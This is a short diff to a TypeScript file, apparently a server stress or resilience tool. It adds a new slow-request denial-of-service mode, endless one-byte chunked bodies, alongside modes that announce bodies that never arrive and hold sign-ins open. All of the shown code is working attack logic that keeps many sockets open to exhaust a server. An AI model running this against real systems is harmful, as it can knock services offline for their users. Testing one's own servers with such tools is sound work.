@@ -9,6 +9,7 @@ import { isMainThread, Worker, workerData } from "node:worker_threads";
 const ATTACKS = {
   "bodies that are announced and do not come": (aim) =>
     crowd(aim, [...runHead(aim), "content-length: 6291456"], "{"),
+  "bodies in chunks of one byte": (aim) => stream(aim, "1\r\n \r\n".repeat(5_000)),
   "sign-ins that do not end": (aim) =>
     crowd(
       aim,
@@ -89,6 +90,17 @@ function crowd(aim: Aim, head: string[], piece: string): Promise<never[]> {
     const socket = await open(aim, head);
     while (socket.writable) {
       socket.write(piece);
+      await sleep(1_000);
+    }
+  });
+}
+
+/** Bodies that come as fast as they are taken, and have no end. */
+function stream(aim: Aim, pieces: string): Promise<never[]> {
+  return onSockets(async () => {
+    const socket = await open(aim, [...runHead(aim), "transfer-encoding: chunked"]);
+    while (socket.writable) {
+      socket.write(pieces);
       await sleep(1_000);
     }
   });
